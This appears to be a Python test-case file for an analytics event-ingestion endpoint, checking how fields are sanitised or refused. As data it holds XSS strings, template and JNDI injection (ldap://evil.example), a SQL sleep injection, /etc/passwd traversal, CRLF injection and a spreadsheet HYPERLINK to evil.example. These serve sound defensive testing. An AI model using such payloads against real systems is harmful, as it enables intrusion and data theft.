"""Single fields of an event with what does not belong there: C11, C12, C24 to C28, C31 to C34,
C36, C37, C38 and C48."""

import json
from typing import Any

from tests.corpus.case import (
    Answer,
    Case,
    accepted,
    batch,
    case,
    get,
    pageview,
    post,
    refused,
    written,
)

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "attribute": '"><img src=x onerror=alert(1)>',
    "javascript": "javascript:alert(1)",
    "data": "data:text/html,<script>alert(1)</script>",
    "vbscript": "vbscript:msgbox(1)",
    "jinja": "{{7*7}}",
    "django": "{% debug %}",
    "dollar": "${7*7}",
    "ruby": "#{7*7}",
    "printf": "%n%s%x",
    "jndi": "${jndi:ldap://evil.example/a}",
    "SQL": "x'||pg_sleep(10)--",
    "path": "../../../../etc/passwd",
    "ANSI": "\x1b]0;owned\x07\x1b[2J",
    "CRLF": "a\r\nSet-Cookie: x=1",
    "COPY": "\\N\t\\.\n\\",
}
FORMULAS = {
    "HYPERLINK": '=HYPERLINK("http://evil.example","x")',
    "plus": "+1+1",
    "minus": "-1",
    "SUM": "@SUM(1)",
    "tab": "\t=1",
    "return": "\r=1",
    "zero width": "\u200b=1",
    "full width": "\uff1d1",
}
UNSTORABLE = {"NUL": "\\u0000", "high surrogate": "\\ud800", "low surrogate": "\\udc00"}
CARDS = {
    "Visa": "4111111111111111",
    "Visa in groups": "4111 1111 1111 1111",
    "Visa with hyphens": "4111-1111-1111-1111",
    "Mastercard": "5555555555554444",
    "Mastercard of the second range": "2223003122003222",
    "American Express": "378282246310005",
    "Discover": "6011111111111117",
    "Diners": "30569309025904",
    "JCB": "3530111333300000",
    "UnionPay": "6200000000000005",
}
JWT = "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U"
HOUR, DAY = 3_600_000, 86_400_000
TEXT_FIELDS = ("title", "language", "user")


def one(row: str, name: str, answer: Answer, /, **fields: Any) -> Case:
    return case(row, name, post(pageview(**fields)), answer)


def raw(row: str, name: str, answer: Answer, /, **fields: bytes) -> Case:
    return case(row, name, post(written(pageview(), **fields)), answer)


def at(path: str) -> str:
    return f"https://shop.example{path}"


CASES: list[Case] = [
    *(
        raw(
            "C11" if what == "NUL" else "C12",
            f"{what} in {field}",
            accepted(sanitized="t", **{field: "a\ufffdb"}),
            **{field: b'"a%sb"' % escape.encode()},
        )
        for what, escape in UNSTORABLE.items()
        for field in ("title", "language", "user", "name")
    ),
    *(
        raw(
            "C11" if what == "NUL" else "C12",
            f"{what} in props",
            accepted(sanitized="t", props='{"a\ufffd":"\ufffdb"}'),
            props=b'{"a%s": "%sb"}' % (escape.encode(), escape.encode()),
        )
        for what, escape in UNSTORABLE.items()
    ),
    *(
        raw(
            "C11" if what == "NUL" else "C12",
            f"{what} in {field}",
            refused("invalid", field),
            **{field: b'"a%sb"' % escape.encode()},
        )
        for what, escape in UNSTORABLE.items()
        for field in ("event_id", "visitor", "session", "tab")
    ),
    *(
        raw(
            "C11" if what == "NUL" else "C12",
            f"{what} in url",
            accepted(page="/a\ufffdb"),
            url=b'"https://shop.example/a%sb"' % escape.encode(),
        )
        for what, escape in UNSTORABLE.items()
    ),
    case(
        "C11",
        "NUL in a field's name",
        post(written(pageview())[:-1] + b', "a\\u0000": 1}'),
        accepted(),
    ),
    *(
        one("C24", f"event {name}", accepted(name=name), name=name)
        for name in ("__proto__", "constructor", "prototype", "toString", "hasOwnProperty")
    ),
    *(
        one(
            "C24",
            f"property {name}",
            accepted(props=json.dumps({name: {"x": 1}}, separators=(",", ":"))),
            props={name: {"x": 1}},
        )
        for name in ("__proto__", "constructor", "prototype", "__class__", "$where", "a.b", "")
    ),
    one("C25", "no name", refused("missing", "name"), name=""),
    one("C25", "blanks for a name", refused("missing", "name"), name=" \u2003\t"),
    one("C25", "null for a name", refused("missing", "name"), name=None),
    one("C25", "a list for a name", refused("invalid", "name"), name=["pageview"]),
    one("C25", "a number for a name", refused("invalid", "name"), name=7),
    one("C25", "a name of 10 kB", accepted(name="n" * 200, sanitized="t"), name="n" * 10_000),
    *(
        one("C25", f"{what} in a name", accepted(name=name[:200]), name=name)
        for what, name in {
            "right to left": "\u202egnp.exe",
            "zero width": "a\u200bb",
            "a family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
            "zalgo": "Z" + "\u0301" * 1_000,
            "a flag": "\U0001f1e9\U0001f1ea",
            "private use": "\ue000",
            "not a character": "\uffff",
        }.items()
    ),
    *(
        one(
            "C26" if what not in ("jinja", "django", "dollar", "ruby", "printf", "jndi") else "C27",
            f"{what} in {field}",
            accepted(**{field: value[:35] if field == "language" else value}),
            **{field: value},
        )
        for what, value in HOSTILE.items()
        for field in TEXT_FIELDS
    ),
    *(
        one(
            "C26" if what not in ("jinja", "django", "dollar", "ruby", "printf", "jndi") else "C27",
            f"{what} in props",
            accepted(),
            props={value: value},
        )
        for what, value in HOSTILE.items()
    ),
    *(
        one(
            "C26", f"{scheme} for a url", refused("invalid", "url"), url=f"{scheme}//shop.example/x"
        )
        for scheme in ("javascript:", "data:", "vbscript:", "blob:", "file:", "about:", "")
    ),
    *(
        one("C26", f"{what} for a url", refused("invalid", "url"), url=url)
        for what, url in {
            "script": "javascript:alert(1)",
            "data": "data:text/html,<script>alert(1)</script>",
            "a word": "nonsense",
            "no host": "https:///x",
            "a bad port": "https://shop.example:99999999/",
            "a path": "/p",
        }.items()
    ),
    one(
        "C26",
        "script in the path",
        accepted(page="/<script>alert(1)</script>"),
        url=at("/<script>alert(1)</script>"),
    ),
    one("C26", "script in the query", accepted(page="/", query=""), url=at("/?q=<script>")),
    one(
        "C26", "script in utm_source", accepted(source="<script>"), url=at("/?utm_source=<script>")
    ),
    one(
        "C26",
        "script in utm_campaign",
        accepted(campaign='"><img src=x>'),
        url=at("/?utm_campaign=%22%3E%3Cimg%20src=x%3E"),
    ),
    one(
        "C26",
        "script for a referrer",
        accepted(referrer="", source="Direct"),
        referrer="javascript:alert(1)",
    ),
    one(
        "C26",
        "script in a referrer",
        accepted(referrer="news.example"),
        referrer="https://news.example/<script>",
    ),
    one("C26", "script for a screen", refused("invalid", "screen"), screen="<script>"),
    one("C26", "a huge screen", refused("invalid", "screen"), screen="1" * 20),
    one("C26", "another script's digits", refused("invalid", "screen"), screen="x٣"),
    *(
        one("C28", f"{what} as a title", accepted(title=value), title=value)
        for what, value in FORMULAS.items()
    ),
    *(
        one("C28", f"{what} as a page", accepted(), url=at("/" + value))
        for what, value in FORMULAS.items()
    ),
    *(
        one("C31", str(time)[:30], refused("timestamp", "time"), time=time)
        for time in (
            "infinity",
            "-infinity",
            "now",
            "epoch",
            "",
            "0000-01-01T00:00:00Z",
            "10000-01-01T00:00:00Z",
            "9999-12-31T23:59:60Z",
            "2026-13-01T00:00:00Z",
            "2026-02-30T00:00:00Z",
            "2026-03-20T09:00:00",
            "2026-03-20",
            "2026-03-20T25:00:00Z",
            "20260320",
            "1774000000000",
            1e18,
            10**15,
            10**18,
            -1,
            -1e300,
            True,
            [],
            {},
            "\u0662",
            "2026-03-20T09:00:00+99:00",
            "2026-03-29T02:30:00 Europe/Berlin",
            "T" * 10_000,
        )
    ),
    one("C31", "seconds since 1970", refused("too_old", "time"), time=1_774_000_000),
    one("C31", "before year 1", refused("timestamp", "time"), time="0001-01-01T00:00:00+14:00"),
    one("C31", "year 1", refused("too_old", "time"), time="0001-01-01T00:00:00Z"),
    one("C31", "before 1970", refused("too_old", "time"), time="1969-12-31T23:59:59Z"),
    one("C31", "the last moment", refused("future", "time"), time="9999-12-31T23:59:59Z"),
    one("C31", "null", accepted(), time=None),
    raw("C31", "a fraction of a millisecond", accepted(), time=b"$NOW.75"),
    raw("C32", "an hour ahead", refused("future", "time"), time=b"$NOW+3600000"),
    raw("C32", "25 hours ahead", refused("future", "time"), time=b"$NOW+90000000"),
    raw("C32", "4 minutes ahead", accepted(), time=b"$NOW+240000"),
    raw("C32", "30 days back", refused("too_old", "time"), time=b"$NOW-2592000000"),
    raw("C32", "400 days back", refused("too_old", "time"), time=b"$NOW-34560000000"),
    raw("C32", "6 days back", accepted(), time=b"$NOW-518400000"),
    raw(
        "C32",
        "an hour ahead and sent then",
        accepted(),
        time=b"$NOW+3600000",
        sent_at=b"$NOW+3600000",
    ),
    raw(
        "C32",
        "sent at no time at all",
        refused("future", "time"),
        time=b"$NOW+3600000",
        sent_at=b'"infinity"',
    ),
    raw(
        "C32",
        "a sending time that would help",
        refused("future", "time"),
        time=b"$NOW-2592000000",
        sent_at=b"0",
    ),
    one("C33", "no id", accepted(), event_id=None),
    one("C33", "an empty id", accepted(), event_id=""),
    # Documented otherwise than most lists have it: a text becomes a UUID inside the property.
    one("C33", "one character", accepted(), event_id="$ID-1"),
    one("C33", "10 kB", refused("invalid", "event_id"), event_id="x" * 10_000),
    one("C33", "a number", refused("invalid", "event_id"), event_id=5),
    one("C33", "an object", refused("invalid", "event_id"), event_id={"$ne": None}),
    one(
        "C33",
        "zeros",
        refused("nil_uuid", "event_id"),
        event_id="00000000-0000-0000-0000-000000000000",
    ),
    one("C33", "zeros without hyphens", refused("nil_uuid", "event_id"), event_id="0" * 32),
    one("C33", "zeros for a visitor", refused("nil_uuid", "visitor"), visitor="0" * 32),
    case("C33", "1,000 times in a batch", post(batch(*[pageview()] * 1_000)), accepted(1, 999)),
    Case(
        "C33",
        "in two properties",
        (
            (post(pageview()), accepted()),
            (post(pageview(property="$OTHER")), accepted()),
        ),
    ),
    Case(
        "C33",
        "in capitals",
        (
            (post(pageview(event_id="6F1D5B0C-$ID")), accepted()),
            (post(pageview(event_id="6F1D5B0C-$ID")), accepted(0, 1)),
        ),
    ),
    Case(
        "C34",
        "another payload",
        (
            (post(pageview(title="a")), accepted(title="a")),
            (post(pageview(title="b")), accepted(0, 1, title="a")),
            (post(pageview(title="a")), accepted(0, 1, title="a")),
        ),
    ),
    case(
        "C34",
        "another payload in one batch",
        post(batch(pageview(title="a"), pageview(title="b"))),
        accepted(1, 1, title="a"),
    ),
    *(
        one(
            "C36",
            f"amount {amount!r}"[:40],
            refused("invalid", "revenue.amount"),
            revenue={"amount": amount},
        )
        for amount in (
            "12,50",
            "",
            " 1",
            "1 ",
            "1_000",
            "0x10",
            "NaN",
            "Infinity",
            "one",
            "١",
            None,
            True,
            [],
            {},
            "1e9999",
            "--1",
            "1.",
            ".5",
            "$5",
        )
    ),
    *(
        one(
            "C36",
            f"amount {amount!r}"[:40],
            refused("number_range", "revenue.amount"),
            revenue={"amount": amount},
        )
        for amount in (1e308, "1e308", "1e-7", "0." + "1" * 20, 10**12, "9" * 400, 5e-324, -1e308)
    ),
    raw("C36", "-0", accepted(revenue="0"), revenue=b'{"amount": "-0"}'),
    one("C36", "6 decimals", accepted(revenue="0.123456"), revenue={"amount": "0.123456"}),
    *(
        one(
            "C36",
            f"currency {code!r}",
            refused("currency", "revenue.currency"),
            revenue={"amount": "1", "currency": code},
        )
        for code in ("EURO", "XYZ", "", "€", 5, None, ["EUR"], "E" * 10_000)
    ),
    *(
        one("C36", f"revenue {kind}", refused("invalid", "revenue"), revenue=value)
        for kind, value in {"a number": 12.5, "text": "12.50", "a list": [1]}.items()
    ),
    *(
        one("C37", f"user {user!r}", accepted(user=""), user=user)
        for user in (
            "null",
            "undefined",
            "0",
            0,
            "[object Object]",
            "NaN",
            "None",
            "",
            "  ",
            "-1",
            "anonymous",
            "TRUE",
            None,
        )
    ),
    one("C37", "an address", accepted(user="alice@example.com"), user="alice@example.com"),
    one("C37", "4,000 characters", accepted(user="u" * 200, sanitized="t"), user="u" * 4_000),
    one("C37", "true", refused("invalid", "user"), user=True),
    one("C37", "an object", refused("invalid", "user"), user={"id": 1}),
    one("C37", "400 digits", accepted(sanitized="t"), user=int("9" * 400)),
    *(
        one("C38", field, accepted(), **{field: 4_294_967_295})
        for field in ("bit", "virtual_id", "visitor_number", "index")
    ),
    one("C38", "a number for a visitor", refused("invalid", "visitor"), visitor=4_294_967_295),
    one("C38", "digits for a visitor", accepted(), visitor="4294967295"),
    *(
        one(
            "C48",
            f"{what} in a title",
            Answer(accepted=1, lacks_text=number, kept={"sanitized": "t"}),
            title=f"Paid with {number}!",
        )
        for what, number in CARDS.items()
    ),
    *(
        one(
            "C48",
            f"{what} in the path",
            Answer(accepted=1, lacks_text=number.replace(" ", "%20")),
            url=at(f"/pay/{number.replace(' ', '%20')}/done"),
        )
        for what, number in CARDS.items()
    ),
    *(
        one(
            "C48",
            f"{what} in props",
            Answer(accepted=1, lacks_text=number, kept={"sanitized": "t"}),
            props={"a": [{"card": number}]},
        )
        for what, number in CARDS.items()
    ),
    one(
        "C48",
        "a card as a number in props",
        Answer(accepted=1, lacks_text="4111111111111111"),
        props={"card": 4_111_111_111_111_111},
    ),
    one(
        "C48",
        "a card as a name in props",
        Answer(accepted=1, lacks_text="4111111111111111"),
        props={"4111111111111111": 1},
    ),
    one(
        "C48",
        "a card in utm_campaign",
        Answer(accepted=1, lacks_text="4111111111111111"),
        url=at("/?utm_campaign=4111111111111111"),
    ),
    one(
        "C48",
        "a card for an event's name",
        Answer(accepted=1, lacks_text="4111111111111111"),
        name="paid 4111111111111111",
    ),
    one(
        "C48",
        "only digits",
        accepted(title="Order 4111111111111112"),
        title="Order 4111111111111112",
    ),
    one("C48", "a moment in milliseconds", accepted(title="1774000000008"), title="1774000000008"),
    *(
        one(
            "C48",
            f"{name} in the query",
            Answer(accepted=1, kept={"query": "ref=a"}, lacks_text=value),
            url=at(f"/?{name}={value}&ref=a"),
        )
        for name, value in {
            "password": "hunter2",
            "token": JWT,
            "access_token": JWT,
            "email": "alice@example.com",
            "card": "4111111111111111",
            "code": "123456",
        }.items()
    ),
    one(
        "C48",
        "a token in the fragment",
        Answer(accepted=1, lacks_text=JWT),
        url=at(f"/#access_token={JWT}"),
    ),
    one(
        "C48",
        "a password before the host",
        Answer(accepted=1, lacks_text="hunter2"),
        url="https://alice:hunter2@shop.example/",
    ),
    one(
        "C48",
        "a token in the referrer",
        Answer(accepted=1, lacks_text=JWT),
        referrer=f"https://news.example/?token={JWT}",
    ),
    case(
        "C48",
        "what the first tracker saw typed",
        get(
            b"/track/it?trackr_event_type=trackr_element_event&config_account=$KEY&hostname=shop.example"
            b"&trackr_element_event=keyup&trackr_element_value=hunter2&trackr_element_char=104"
            b"&event_id=$ID"
        ),
        Answer((200,), lacks_text="hunter2", kept={"name": "element"}),
    ),
]
